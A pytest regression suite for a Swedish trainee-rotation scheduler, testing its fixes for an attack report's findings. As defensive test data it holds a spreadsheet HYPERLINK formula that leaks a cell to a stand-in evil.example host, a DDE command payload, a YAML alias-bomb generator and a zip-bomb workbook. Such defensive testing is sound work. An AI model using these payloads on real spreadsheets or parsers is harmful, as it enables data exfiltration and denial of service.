"""Issue 16, "nothing wrong, nothing lost": one regression test per point of the attack report.

Each test reproduces what the attack found on the code before the fix (a wrong plan written as
clean, mixed output sets, formulas in workbooks, ...) and asserts the defended behaviour.
docs/SECURITY.md maps each defence to its test here. Names are invented.
"""

from __future__ import annotations

import json
import signal
import subprocess
import sys
import time
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
import yaml
from typer.testing import CliRunner, Result

from scheduler import cli
from scheduler import verify as checker
from scheduler.i18n import set_language
from scheduler.inputs.yaml_io import InputError, load_instance
from scheduler.plan import Stint, plan_to_csv

ROOT = Path(__file__).resolve().parent.parent
TUTORIAL = ROOT / "instances" / "tutorial.yaml"
FAST = ["--time-limit", "5", "--workers", "1"]
runner = CliRunner()


def invoke(*args: str | Path) -> Result:
    return runner.invoke(cli.app, [str(a) for a in args])


@pytest.fixture(autouse=True)
def _swedish_afterwards():
    yield
    set_language("sv")


def assert_clean_exit(result: Result, code: int) -> None:
    assert result.exit_code == code, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), (
        repr(result.exception))
    assert "Traceback" not in result.output


def tutorial_data() -> dict[str, Any]:
    data = yaml.safe_load(TUTORIAL.read_text(encoding="utf-8"))
    data["programmes"] = [str((TUTORIAL.parent / p).resolve()) for p in data["programmes"]]
    return data


def write_yaml(path: Path, data: dict[str, Any]) -> Path:
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


def one_at_trainee() -> tuple[Any, str]:
    """The tutorial with its first AT intake cut to one trainee (and no other intakes)."""
    inst = load_instance(TUTORIAL)
    at = inst.cohorts[0].model_copy(update={"count": 1})
    return inst.model_copy(update={"cohorts": [at]}), f"{at.id}-01"


def W(n: int) -> date:  # noqa: N802 - reads as a week number in the plans below
    return date(2027, 1, 4) + timedelta(weeks=n)


def at_plan(tid: str) -> list[Stint]:
    """78 weeks: 13 medicin + 13 kirurgi + 13 psykiatri + 26 + 13 allmänmedicin.
    medicin + kirurgi = 26 weeks, short of the group's 39."""
    rows = [("MED", "medicin", 0, 13), ("KIR", "kirurgi", 13, 26), ("PSY", "psykiatri", 26, 39),
            ("VC-NORR", "allmanmedicin", 39, 65), ("VC-SODER", "allmanmedicin", 65, 78)]
    return [Stint(tid, W(a), W(b), u, d, "AT18", "SJH") for u, d, a, b in rows]


# ------------------------------------------------------------------------------------------
# 1. A discipline listed twice: an input error, and the checker counts weeks from the plan.


@pytest.mark.parametrize("where", ["group", "unit", "unit_programmes"])
def test_duplicate_in_an_id_list_is_an_input_error(tmp_path, where):
    data = tutorial_data()
    if where == "group":
        prog = yaml.safe_load(Path(data["programmes"][0]).read_text(encoding="utf-8"))
        prog["group_requirements"][0]["disciplines"] = ["medicin", "medicin", "kirurgi"]
        data["programmes"][0] = prog
    elif where == "unit":
        data["units"][2]["disciplines"] = ["medicin", "kirurgi", "akut", "kirurgi"]
    else:
        data["units"][0]["programmes"] = ["AT18", "AT18"]
    res = invoke("solve", write_yaml(tmp_path / "dup.yaml", data), "--out", tmp_path / "o", *FAST)
    assert_clean_exit(res, 2)
    assert "flera gånger i listan" in res.output
    assert not (tmp_path / "o" / "plan.csv").exists()


def test_checker_counts_a_group_from_the_plan_not_from_the_rule_list():
    # 13 medicin + 13 kirurgi = 26 < 39. With medicin listed twice the old checker summed
    # 13 + 13 + 13 = 39 and passed the plan.
    inst, tid = one_at_trainee()
    at = inst.programme("AT18")
    group = at.group_requirements[0].model_copy(
        update={"disciplines": ["medicin", "medicin", "kirurgi"]})  # bypasses validation
    bad = at.model_copy(update={"group_requirements": [group]})
    inst = inst.model_copy(update={"programmes": [bad, inst.programme("BT12")]})
    found = [v for v in checker.check(inst, at_plan(tid)) if v.rule == "requirement"]
    assert len(found) == 1 and "26" in found[0].message and "39" in found[0].message
    # and the block length counts medicin's minimum once: 39 + 13 + 26 = 78
    assert checker.service_weeks(bad, 100) == 78


# ------------------------------------------------------------------------------------------
# 3. An overlap is a violation, never a negative fragmentation, and has no objective.


def test_overlapping_stints_give_no_negative_term_and_no_objective(tmp_path):
    inst, tid = one_at_trainee()
    plan = at_plan(tid)
    # A second medicin stint at AKM inside MED's weeks 4-8: the old fragmentation was
    # span 13 - (13 + 4) = -4, an objective below the optimum.
    plan.append(Stint(tid, W(4), W(8), "AKM", "medicin", "AT18", "SJH"))
    terms = checker.evaluate(inst, plan)
    assert terms["fragmentation"] == 0 and min(terms.values()) >= 0
    assert any(v.rule == "coverage" for v in checker.check(inst, plan))

    data = tutorial_data()
    data["cohorts"] = [{**data["cohorts"][0], "count": 1}]
    src = write_yaml(tmp_path / "one.yaml", data)
    (tmp_path / "plan.csv").write_text(plan_to_csv(plan), encoding="utf-8")
    res = invoke("check", src, tmp_path / "plan.csv")
    assert_clean_exit(res, 1)
    assert "objective=–" in res.output and "fragmentation=0" in res.output


# ------------------------------------------------------------------------------------------
# 4. The outputs are one set: staged, moved in together with the manifest last, under a lock.


@pytest.fixture(scope="module")
def first_set(tmp_path_factory) -> Path:
    """A complete output set of the tutorial, to be copied by tests that need an old set."""
    out = tmp_path_factory.mktemp("set") / "out"
    res = invoke("solve", TUTORIAL, "--out", out, *FAST)
    assert_clean_exit(res, 0)
    set_language("sv")
    return out


def copy_set(src: Path, dst: Path) -> dict[str, bytes]:
    dst.mkdir(parents=True)
    files = {p.name: p.read_bytes() for p in src.iterdir() if p.is_file()}  # the whole set
    for n, b in files.items():
        (dst / n).write_bytes(b)
    return files


def test_written_set_is_complete_and_a_changed_file_breaks_it(first_set, tmp_path):
    from scheduler.outputs import complete_set

    assert complete_set(first_set)
    out = tmp_path / "o"
    copy_set(first_set, out)
    (out / "plan.csv").write_text("trainee\n", encoding="utf-8")  # a newer plan.csv alone
    assert not complete_set(out)


@pytest.mark.parametrize("bad", ["\v", "\x00", "\x1b[31m"])
def test_control_character_in_a_name_is_refused_and_the_old_set_kept(first_set, tmp_path, bad):
    # Before: the workbook writer failed (exit 5) after plan.csv had been replaced.
    out = tmp_path / "o"
    old = copy_set(first_set, out)
    data = tutorial_data()
    data["units"][0]["name"] = f"Medicin{bad}kliniken"
    res = invoke("solve", write_yaml(tmp_path / "cc.yaml", data), "--out", out, *FAST)
    assert_clean_exit(res, 2)
    assert "units[0] (MED).name" in res.output and "styrtecken" in res.output
    assert {n: (out / n).read_bytes() for n in old} == old


def test_a_writer_failing_midway_leaves_the_old_set_and_no_temporaries(
        first_set, tmp_path, monkeypatch):
    import scheduler.report.excel as excel
    from scheduler.outputs import complete_set

    out = tmp_path / "o"
    old = copy_set(first_set, out)

    def broken(*a, **k):
        raise ValueError("cannot be used in worksheets")

    monkeypatch.setattr(excel, "build_workbook", broken)
    res = invoke("solve", TUTORIAL, "--out", out, *FAST)
    assert res.exit_code != 0  # the CLI's main() turns this into exit 5
    assert {n: (out / n).read_bytes() for n in old} == old and complete_set(out)
    assert not list(tmp_path.glob(".o.tmp-*")) and not list(out.glob(".*.tmp"))


def test_second_run_into_a_locked_out_exits_2_before_solving(tmp_path):
    from scheduler.outputs import output_lock

    out = tmp_path / "o"
    with output_lock(out):  # another run holds the folder
        res = invoke("solve", TUTORIAL, "--out", out, *FAST)
    assert_clean_exit(res, 2)
    assert "används redan" in res.output
    assert not (out / "plan.csv").exists()


def test_stale_temporaries_of_a_killed_run_are_removed(tmp_path):
    from scheduler.outputs import complete_set

    out = tmp_path / "o"
    out.mkdir()
    (out / ".plan.xlsx.abc123.tmp").write_bytes(b"half")  # write_atomic's, before SIGKILL
    (tmp_path / ".o.tmp-xyz").mkdir()  # a staging folder, before SIGKILL
    (tmp_path / ".o.tmp-xyz" / "plan.csv").write_text("half", encoding="utf-8")
    res = invoke("solve", TUTORIAL, "--out", out, *FAST)
    assert_clean_exit(res, 0)
    assert complete_set(out)
    assert not (out / ".plan.xlsx.abc123.tmp").exists() and not (tmp_path / ".o.tmp-xyz").exists()


# ------------------------------------------------------------------------------------------
# 11. (first part) An unusable --out is found before the solve, not after it.


def test_unwritable_out_exits_2_before_solving(tmp_path):
    import os
    import time

    if os.geteuid() == 0:  # root writes into a read-only folder; a file in the way then
        (tmp_path / "ro").write_text("", encoding="utf-8")
        out = tmp_path / "ro" / "o"
    else:
        (tmp_path / "ro").mkdir(mode=0o555)
        out = tmp_path / "ro" / "o"
    t0 = time.monotonic()
    res = invoke("solve", TUTORIAL, "--out", out, "--time-limit", "30", "--workers", "1")
    assert_clean_exit(res, 2)
    assert "kan inte skriva" in res.output
    assert time.monotonic() - t0 < 10  # refused at once, not after a 30 s solve


def test_out_longer_than_the_os_allows_exits_2(tmp_path):
    res = invoke("solve", TUTORIAL, "--out", tmp_path / ("x" * 300), *FAST)
    assert_clean_exit(res, 2)


# ------------------------------------------------------------------------------------------
# 5. Ctrl-C / SIGTERM: no traceback, the best checked plan as "stopped", exit 130 / 143.


def _atbt(*args: str | Path) -> subprocess.Popen:
    return subprocess.Popen([sys.executable, "-m", "scheduler", *map(str, args)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=ROOT)


def _wait_for(proc: subprocess.Popen, word: str, limit: float = 30) -> str:
    """stderr lines up to the first holding ``word`` (the solver's progress)."""
    seen = ""
    t0 = time.monotonic()
    while time.monotonic() - t0 < limit:
        line = proc.stderr.readline()
        seen += line
        if word in line or not line:
            break
    return seen


@pytest.mark.parametrize("sig, code", [(signal.SIGTERM, 143), (signal.SIGINT, 130)])
def test_signal_during_the_solve_writes_the_best_plan_as_stopped(tmp_path, sig, code):
    from scheduler.outputs import complete_set

    out = tmp_path / "o"
    proc = _atbt("solve", TUTORIAL, "--out", out, "--time-limit", "4", "--workers", "1")
    seen = _wait_for(proc, "första planen")  # a plan exists: it must not be lost
    proc.send_signal(sig)
    _, rest = proc.communicate(timeout=60)
    assert proc.returncode == code, seen + rest
    assert "Traceback" not in seen + rest and "Avbruten" in rest
    assert complete_set(out)
    assert json.loads((out / "run.json").read_text(encoding="utf-8"))["status"] == "stopped"


def test_ctrl_c_during_start_up_writes_nothing_and_prints_no_traceback(tmp_path):
    out = tmp_path / "o"
    proc = _atbt("solve", TUTORIAL, "--out", out, "--time-limit", "4", "--workers", "1")
    time.sleep(0.3)  # still importing OR-Tools and pydantic
    proc.send_signal(signal.SIGINT)
    _, errs = proc.communicate(timeout=60)
    assert proc.returncode == 130, errs
    assert "Traceback" not in errs
    assert not (out / "run.json").exists()


# ------------------------------------------------------------------------------------------
# 2. A discipline no programme knows is a typo: exit 2 naming the field and the closest name.


@pytest.mark.parametrize("typo, meant", [("Medicin", "medicin"),
                                         ("allmänmedicin", "allmanmedicin"),
                                         ("kirugi", "kirurgi")])
def test_unknown_discipline_in_a_unit_names_the_closest_known(tmp_path, typo, meant):
    # Before: accepted, and the run ended "proven infeasible" without a word of the typo.
    data = tutorial_data()
    data["units"][2]["disciplines"] = [typo, "akut"]
    res = invoke("solve", write_yaml(tmp_path / "t.yaml", data), "--out", tmp_path / "o", *FAST)
    assert_clean_exit(res, 2)
    assert "units[2] (AKM).disciplines" in res.output
    assert f"'{typo}'" in res.output and f"menar du '{meant}'" in res.output


# ------------------------------------------------------------------------------------------
# 8. Formula injection: names are text in every workbook; ids cannot start a formula.

EVIL = '=HYPERLINK("http://evil.example/?x="&B3,"Anna")'


def _formula_cells(path: Path) -> list[str]:
    import openpyxl

    wb = openpyxl.load_workbook(path)
    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows()
            for c in row if c.data_type == "f"]


def test_formula_in_names_is_stored_as_text_in_plan_and_rosters(tmp_path):
    import openpyxl

    data = tutorial_data()
    data["name"] = "+SUM(1,2)"
    data["units"][0]["name"] = EVIL
    data["cohorts"] = []
    data["trainees"] = [{"id": "AT-EVIL", "name": "@cmd|' /C calc'!A0", "programme": "AT18",
                         "start": "2027-01-04", "site": "SJH"}]
    src = write_yaml(tmp_path / "evil.yaml", data)
    out = tmp_path / "o"
    assert_clean_exit(invoke("solve", src, "--out", out, *FAST), 0)
    assert _formula_cells(out / "plan.xlsx") == []
    texts = {c.value for ws in openpyxl.load_workbook(out / "plan.xlsx").worksheets
             for row in ws.iter_rows() for c in row}
    assert EVIL in texts  # kept, as text
    ros = tmp_path / "r"
    assert_clean_exit(invoke("rosters", out, "--instance", src, "--out", ros), 0)
    books = list(ros.rglob("*.xlsx"))
    assert books and all(_formula_cells(b) == [] for b in books)


@pytest.mark.parametrize("bad_id", ["+MED", "-MED"])  # = and @ were never allowed
def test_id_that_would_be_a_csv_formula_is_refused(tmp_path, bad_id):
    data = tutorial_data()
    data["units"][0]["id"] = bad_id
    res = invoke("solve", write_yaml(tmp_path / "id.yaml", data), "--out", tmp_path / "o", *FAST)
    assert_clean_exit(res, 2)
    assert "units[0]" in res.output


# ------------------------------------------------------------------------------------------
# 6. Out-of-range values are input errors (exit 2) before any solving.


def _horizon_9999(d):
    d["horizon"]["end"] = "9999-12-27"


def _horizon_0001(d):
    d["horizon"]["start"] = "0001-01-01"


def _leave_9999(d):
    d["trainees"] = [{"id": "AT-X", "programme": "AT18", "start": "2027-01-04", "site": "SJH",
                      "leave": [{"start": "2027-03-01", "end": "9999-12-27",
                                 "kind": "sjukskrivning"}]}]


def _capacity_huge(d):
    d["units"][0]["capacity"] = 10**18


def _weight_huge(d):
    d["weights"] = {"unit_changes": 10**18}


def _stint_weeks_huge(d):
    d["units"][0]["max_weeks"] = 10**9


@pytest.mark.parametrize("mutate, field", [
    (_horizon_9999, "horizon"), (_horizon_0001, "horizon.start"),
    (_leave_9999, "leave[0].end"), (_capacity_huge, "units[0] (MED).capacity"),
    (_weight_huge, "weights.unit_changes"), (_stint_weeks_huge, "units[0] (MED).max_weeks"),
])
def test_out_of_range_value_in_the_instance_exits_2_before_solving(tmp_path, mutate, field):
    # Before: 30 s on a 3 s limit then "Invalid column index", OverflowError, a CP-SAT
    # expression dump, or a visibly worse plan accepted.
    data = tutorial_data()
    mutate(data)
    t0 = time.monotonic()
    res = invoke("solve", write_yaml(tmp_path / "r.yaml", data), "--out", tmp_path / "o",
                 "--time-limit", "30", "--workers", "1")
    assert_clean_exit(res, 2)
    assert field in res.output
    assert time.monotonic() - t0 < 10
    assert not (tmp_path / "o" / "plan.csv").exists()


@pytest.mark.parametrize("option", [("--seed", "99999999999"), ("--seed", "-1"),
                                    ("--workers", "100000"), ("--time-limit", "1e12")])
def test_out_of_range_option_exits_2(tmp_path, option):
    res = invoke("solve", TUTORIAL, "--out", tmp_path / "o", *option)
    assert_clean_exit(res, 2)
    assert option[0] in res.output


# ------------------------------------------------------------------------------------------
# 7. YAML alias bombs and huge values: refused quickly, echoed values capped.


def _laughs(levels: int = 9, width: int = 9) -> str:
    lines = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    for i in range(1, levels):
        refs = ", ".join([f"*a{i - 1}"] * width)
        lines.append(f"a{i}: &a{i} [{refs}]")
    return "\n".join(lines) + "\n"


def test_alias_bomb_is_refused_at_once(tmp_path):
    # Before: a 2.5 KB file like this ran over 60 s and took 4.3 GB.
    text = TUTORIAL.read_text(encoding="utf-8").replace("../constraints", str(ROOT / "constraints"))
    bomb = _laughs()
    text = bomb + text.replace("capacity: 4,", f"capacity: *a{8},", 1)
    src = tmp_path / "bomb.yaml"
    src.write_text(text, encoding="utf-8")
    assert len(bomb) < 3000
    t0 = time.monotonic()
    res = invoke("solve", src, "--out", tmp_path / "o", *FAST)
    assert_clean_exit(res, 2)
    assert time.monotonic() - t0 < 10
    assert "alias" in res.output and len(res.output) < 1000


def test_huge_value_is_echoed_in_at_most_80_characters(tmp_path):
    data = tutorial_data()
    data["units"][0]["capacity"] = list(range(20_000))  # a 100 KB list where a number belongs
    data["units"][1]["name"] = {"x": "y" * 100_000}
    res = invoke("solve", write_yaml(tmp_path / "big.yaml", data), "--out", tmp_path / "o", *FAST)
    assert_clean_exit(res, 2)
    assert "units[0] (MED).capacity" in res.output
    assert max(len(line) for line in res.output.splitlines()) < 300


def test_input_larger_than_the_cap_is_refused_before_parsing(tmp_path):
    from scheduler.inputs.yaml_io import MAX_INPUT_BYTES

    src = tmp_path / "big.yaml"
    src.write_text("# " + "x" * MAX_INPUT_BYTES + "\n", encoding="utf-8")
    res = invoke("solve", src, "--out", tmp_path / "o", *FAST)
    assert_clean_exit(res, 2)
    assert "byte" in res.output


# ------------------------------------------------------------------------------------------
# 9. Pseudonymisation: no id on stderr, no empty key, a wrong key said plainly, no leave kind.

KEY = "0123456789abcdef-test-key"


def three_on_psy(tmp_path: Path) -> Path:
    """Three ATs locked at PSY (capacity 2) in the same weeks: proven infeasible, and the
    explanation names all three."""
    data = tutorial_data()
    data["cohorts"] = []
    lock = [{"unit": "PSY", "discipline": "psykiatri", "start": "2027-01-04",
             "end": "2027-04-05"}]
    data["trainees"] = [{"id": f"{n}-X{i}", "name": f"{n} Exempel", "programme": "AT18",
                         "start": "2027-01-04", "site": "SJH", "locked": lock}
                        for i, n in enumerate(["ANNA", "BERTIL", "CECILIA"])]
    return write_yaml(tmp_path / "psy.yaml", data)


def test_pseudonymised_run_prints_codes_not_ids_on_stderr(tmp_path, monkeypatch):
    monkeypatch.setenv("ATBT_PSEUDONYM_KEY", KEY)
    res = invoke("solve", three_on_psy(tmp_path), "--out", tmp_path / "o", "--pseudonymize",
                 *FAST)
    assert_clean_exit(res, 3)
    assert res.output.count("P-") >= 3
    assert not any(n in res.output for n in ("ANNA", "BERTIL", "CECILIA"))


@pytest.mark.parametrize("how", ["empty env", "short env", "empty file"])
def test_empty_or_short_key_is_refused_before_solving(tmp_path, monkeypatch, how):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "cfg"))
    if how == "empty file":
        monkeypatch.delenv("ATBT_PSEUDONYM_KEY", raising=False)
        (tmp_path / "cfg" / "atbt").mkdir(parents=True)
        (tmp_path / "cfg" / "atbt" / "pseudonym.key").write_text("\n", encoding="utf-8")
    else:
        monkeypatch.setenv("ATBT_PSEUDONYM_KEY", "" if how == "empty env" else "abc")
    res = invoke("solve", TUTORIAL, "--out", tmp_path / "o", "--pseudonymize", *FAST)
    assert_clean_exit(res, 2)
    assert "pseudonymnyckeln" in res.output and "minst 16" in res.output
    assert not (tmp_path / "o" / "plan.csv").exists()


def test_relative_xdg_config_home_does_not_put_the_key_in_the_current_folder(
        tmp_path, monkeypatch):
    from scheduler.workbook.pseudonym import key_file

    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("XDG_CONFIG_HOME", "cfg")
    assert key_file().is_absolute() and tmp_path not in key_file().parents


def test_rosters_with_another_key_say_so_and_hide_the_leave_kind(tmp_path, monkeypatch):
    import openpyxl

    data = tutorial_data()
    data["cohorts"] = data["cohorts"][:1]
    data["trainees"] = [{"id": "DAVID-X9", "name": "David Exempel", "programme": "AT18",
                         "start": "2027-01-04", "site": "SJH",
                         "leave": [{"start": "2027-03-01", "end": "2027-03-15",
                                    "kind": "sjukskrivning"}]}]
    src = write_yaml(tmp_path / "leave.yaml", data)
    out = tmp_path / "o"
    monkeypatch.setenv("ATBT_PSEUDONYM_KEY", KEY)
    assert_clean_exit(invoke("solve", src, "--out", out, "--pseudonymize", *FAST), 0)

    monkeypatch.setenv("ATBT_PSEUDONYM_KEY", KEY + "-another")
    res = invoke("rosters", out, "--instance", src, "--out", tmp_path / "r1")
    assert_clean_exit(res, 2)  # before: exit 1 with "72 regelbrott"
    assert "annan nyckel" in res.output

    monkeypatch.setenv("ATBT_PSEUDONYM_KEY", KEY)
    assert_clean_exit(invoke("rosters", out, "--instance", src, "--out", tmp_path / "r2"), 0)
    people = [p for p in (tmp_path / "r2").rglob("P-*.xlsx")]
    texts = " ".join(str(c.value) for p in people for ws in openpyxl.load_workbook(p).worksheets
                     for row in ws.iter_rows() for c in row if c.value is not None)
    assert "ledig" in texts and "jukskriv" not in texts and "David" not in texts


# ------------------------------------------------------------------------------------------
# 10. check on hand-edited files: linear time, Swedish messages, the right rule.


def _tutorial_plan(first_set: Path) -> list[str]:
    return (first_set / "plan.csv").read_text(encoding="utf-8").splitlines()


def test_check_of_a_field_longer_than_csvs_limit_exits_2(first_set, tmp_path):
    lines = _tutorial_plan(first_set)
    lines[1] = "x" * 131_073 + lines[1][lines[1].index(","):]
    (tmp_path / "p.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    res = invoke("check", TUTORIAL, tmp_path / "p.csv")
    assert_clean_exit(res, 2)  # before: exit 5 (csv.Error)
    assert "CSV" in res.output and len(res.output) < 1000


def test_check_of_20000_rows_takes_seconds_not_minutes(tmp_path):
    # 2 500 one-week stints per trainee. Before: 276 s (each stint compared with every other
    # of its trainee); now about 1 s.
    ids = [t.id for t in load_instance(TUTORIAL).all_trainees()]
    plan = [Stint(ids[k % len(ids)], W((k // len(ids)) % 104), W((k // len(ids)) % 104 + 1),
                  "MED", "medicin", "AT18", "SJH") for k in range(20_000)]
    (tmp_path / "p.csv").write_text(plan_to_csv(plan), encoding="utf-8")
    t0 = time.monotonic()
    res = invoke("check", TUTORIAL, tmp_path / "p.csv")
    assert_clean_exit(res, 1)
    assert time.monotonic() - t0 < 30


@pytest.mark.parametrize("start, words, absent", [
    ("2027-02-30", "start: '2027-02-30' är inget datum", "day is out of range"),
    ("2027-01-05", "börja och sluta på en måndag", "weeks="),
])
def test_check_names_a_bad_date_in_swedish_and_the_right_rule(first_set, tmp_path, start,
                                                              words, absent):
    header, *rows = _tutorial_plan(first_set)
    cells = rows[0].split(",")
    cells[5] = start
    (tmp_path / "p.csv").write_text("\n".join([header, ",".join(cells), *rows[1:]]) + "\n",
                                    encoding="utf-8")
    res = invoke("check", TUTORIAL, tmp_path / "p.csv")
    assert res.exit_code in (1, 2) and "Traceback" not in res.output
    assert words in res.output and absent not in res.output


# ------------------------------------------------------------------------------------------
# 11. (rest) Report folders that would collide; a workbook that unpacks too large.


def test_batch_refuses_an_instance_as_yaml_and_xlsx_side_by_side(tmp_path):
    from scheduler.workbook.template import instance_to_workbook

    folder = tmp_path / "regions"
    folder.mkdir()
    write_yaml(folder / "region.yaml", tutorial_data())
    (folder / "region.xlsx").write_bytes(instance_to_workbook(load_instance(TUTORIAL)))
    res = invoke("batch", folder, "--out", tmp_path / "o", *FAST)
    assert_clean_exit(res, 2)  # before: region.xlsx silently dropped
    assert "'region.xlsx'" in res.output and "'region.yaml'" in res.output


def test_whatif_refuses_variants_that_share_a_folder(tmp_path):
    sc = tmp_path / "s.yaml"
    sc.write_text("scenarios:\n  - {name: vc stänger}\n  - {name: vc_stänger}\n",
                  encoding="utf-8")
    res = invoke("whatif", TUTORIAL, sc, "--out", tmp_path / "o", *FAST)
    assert_clean_exit(res, 2)
    assert "samma mapp" in res.output and not (tmp_path / "o" / "whatif.xlsx").exists()


def test_workbook_unpacking_past_the_cap_is_refused_at_once(tmp_path):
    import zipfile

    from scheduler.workbook.template import instance_to_workbook

    src = tmp_path / "big.xlsx"
    src.write_bytes(instance_to_workbook(load_instance(TUTORIAL)))
    with zipfile.ZipFile(src, "a", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("xl/media/pad.bin", b"\0" * 12 * 1024 * 1024)  # 12 MB, a few KB packed
    t0 = time.monotonic()
    res = invoke("solve", src, "--out", tmp_path / "o", *FAST)
    assert_clean_exit(res, 2)  # before: read (cap 50 MB); 31 MB took 36 s and 1 GB
    assert "MB" in res.output and time.monotonic() - t0 < 10


def test_validation_messages_are_swedish_for_common_mistakes():
    # Before: 76 of 204 messages mixed pydantic's English ("Input should be ...") into Swedish.
    import copy

    from scheduler.inputs.yaml_io import parse_instance_text

    base = load_instance(TUTORIAL).model_dump(mode="json")
    cases = [("units", 0, "name", 5), ("units", 0, "capacity", "tre"),
             ("units", 0, "capacity", -1), ("units", 0, "capacity", 10**6),
             ("units", 0, "disciplines", "medicin"), ("units", 0, "region_wide", "kanske"),
             ("units", 0, "id", ""), ("units", 0, "id", "Ö" * 70), ("units", 0, "id", "a b"),
             ("sites", 0, "name", None), ("units", 0, "staffing_target", 3),
             ("programmes", 0, "kind", "XT"), ("units", 0, "disciplines", [])]
    for *path, value in cases:
        data = copy.deepcopy(base)
        node = data
        for key in path[:-1]:
            node = node[key]
        node[path[-1]] = value
        with pytest.raises(InputError) as info:
            parse_instance_text(yaml.safe_dump(data, allow_unicode=True))
        text = info.value.render()
        assert "Input should" not in text and "should have" not in text, text


def test_replan_into_a_locked_out_exits_2_before_solving(first_set, tmp_path):
    from scheduler.outputs import output_lock

    out = tmp_path / "o"
    with output_lock(out):
        res = invoke("replan", TUTORIAL, first_set / "plan.csv", "--today", "2027-06-07",
                     "--out", out, *FAST)
    assert_clean_exit(res, 2)
    assert "används redan" in res.output and not (out / "plan.csv").exists()
